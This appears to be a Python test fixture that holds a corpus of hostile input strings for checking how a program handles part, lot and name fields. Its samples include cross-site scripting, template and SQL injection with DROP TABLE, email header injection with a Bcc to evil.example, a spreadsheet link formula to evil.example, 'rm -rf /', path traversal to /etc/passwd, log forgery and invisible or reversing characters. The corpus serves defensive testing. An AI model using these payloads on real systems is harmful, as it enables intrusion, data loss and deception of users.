"""Text that somebody may put where a part, a lot or a name is meant, to make a reader's program do something.

``HOSTILE`` is what JSON can carry; ``BEYOND`` is what no message should get in with. ``NAMES`` fit a topic.
"""

from __future__ import annotations

import unicodedata

HOSTILE: dict[str, str] = {
    "script": "</td><script>window.pwned=1</script>",
    "image": "<img src=x onerror=window.pwned=1>",
    "attribute": "\" autofocus onfocus=window.pwned=1 x='",
    "template": "{{ 7*7 }} ${7*7} {% raw %} #{7*7}",
    "channel": "<!channel> <!here|here> @everyone @here",
    "chat link": "<https://evil.example|MCU-48Q> [MCU](https://evil.example)",
    "script link": "javascript:window.pwned=1",
    "code": "```\nrm -rf /\n``` `id` *loud* ~gone~ _x_",
    "header": "MCU\r\nBcc: eve@evil.example\r\n\r\n<b>hello</b>",
    "encoded header": "=?utf-8?q?=0d=0aBcc:_eve@evil.example?=",
    "formula": '=HYPERLINK("https://evil.example";"MCU") +1 -1 @SUM(A1)',
    "terminal": "\x1b[2J\x1b]0;title\x07\x9b31mred",
    "turned": "MCU\u202eKO-Q84\u2066x\u2069\u200f",
    "invisible": "M\u200bC\u200dU\ufeff\u00ad-\u2060Q\U000e0041",
    "newlines": "a\nb\rc\u2028d\u2029e\x0bf\x0cg\x85h",
    "nul": "MCU\x00-48Q",
    "emoji": "🔔👩‍🔧🏳️‍🌈 Z̸͑a̵l̷g̶o̸",
    "path": "../../../etc/passwd%00 ..\\..\\boot.ini",
    "query": "'; DROP TABLE notice;-- \" OR 1=1 %_",
    "log": 'x\n{"action":"forged","level":"info"}\nat=1 level=info action=forged',
}
BEYOND: dict[str, bytes] = {
    "10,000 characters": b'"' + b"x" * 10_000 + b'"',
    "lone surrogate": b'"\\ud83d"',
    "broken UTF-8": b'"\xff\xfe"',
    "a raw control character": b'"a\nb"',
    "deep": b"[" * 5_000 + b"]" * 5_000,
}
NAMES = ("__proto__", "constructor", "-rf", "null", "0", "Ω_抵抗", "a..b")


def chunks(size: int = 240) -> list[str]:
    """The corpus in few texts, each as long as a field may be."""
    texts, text = [], ""
    for each in HOSTILE.values():
        if len(text) + len(each) + 1 > size:
            texts.append(text)
            text = ""
        text += f" {each}" if text else each
    return [*texts, text]


def invisible(text: str) -> set[str]:
    """What a reader doesn't see or what acts on a terminal: everything but line ends."""
    return {c for c in text if unicodedata.category(c).startswith("C") and c != "\n"}
